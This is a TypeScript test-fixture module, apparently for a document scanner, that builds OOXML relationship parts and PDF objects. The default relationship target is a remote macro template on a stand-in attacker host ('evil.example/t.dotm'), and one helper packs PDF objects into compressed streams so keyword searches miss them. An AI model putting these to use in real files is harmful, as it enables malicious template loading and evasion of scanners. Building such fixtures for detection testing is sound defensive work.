import { deflateSync } from 'node:zlib'

const package2006 = 'http://schemas.openxmlformats.org/package/2006'
const office2006 = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** The list of types of a package whose main part is `part`. */
export const typesOf = (part: string, main: string, more = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="${package2006}/content-types"><Default Extension="xml" ContentType="application/xml"/>
   <Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${main}"/>${more}</Types>`

/** One relation of a part; `more` holds its further attributes. */
export const relationOf = (type: string, more: string, target = 'https://evil.example/t.dotm'): string =>
  `<Relationships xmlns="${package2006}/relationships"><Relationship Id="r1" ${more} Type="${office2006}/${type}" Target="${target}"/></Relationships>`

/** A sound Word document: a link, a table of a chart within. */
export const word: Readonly<Record<string, string>> = {
  '[Content_Types].xml': typesOf('word/document.xml', 'wordprocessingml.document.main+xml'),
  'word/document.xml':
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
  'word/_rels/document.xml.rels': relationOf('hyperlink', 'TargetMode="External"', 'https://example.com'),
  'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'table of a chart',
}

/** A sound workbook, with what a printer left in it. */
export const excel: Readonly<Record<string, string>> = {
  '[Content_Types].xml': typesOf('xl/workbook.xml', 'spreadsheetml.sheet.main+xml'),
  'xl/workbook.xml': '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
  'xl/printerSettings/printerSettings1.bin': 'paper',
}

/** A PDF of these objects (number and body); no table of offsets, which every reader rebuilds. */
export function pdfOf(objects: Readonly<Record<number, string | Buffer>>, trailer = '/Root 1 0 R'): Buffer {
  const parts = Object.entries(objects).flatMap(([number, body]) => [
    Buffer.from(`${number} 0 obj\n`),
    Buffer.from(body),
    Buffer.from('\nendobj\n'),
  ])
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n'),
    ...parts,
    Buffer.from(`trailer\n<< ${trailer} /Size 20 >>\n%%EOF\n`),
  ])
}

/** A stream with its dictionary. */
export const streamOf = (dictionary: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ])

/** Objects packed together, where no search for a word finds them. */
export function packedObjects(
  objects: Readonly<Record<number, string>>,
  dictionary = '/Type /ObjStm',
): Buffer {
  const entries = Object.entries(objects)
  let offset = 0
  const index = entries.map(([number, body]) => {
    const told = `${number} ${offset}`
    offset += body.length + 1
    return told
  })
  const head = `${index.join(' ')} `
  const content = deflateSync(Buffer.from(head + entries.map(([, body]) => body).join(' ')))
  return streamOf(`${dictionary} /N ${entries.length} /First ${head.length} /Filter /FlateDecode`, content)
}

export const pages = {
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
}
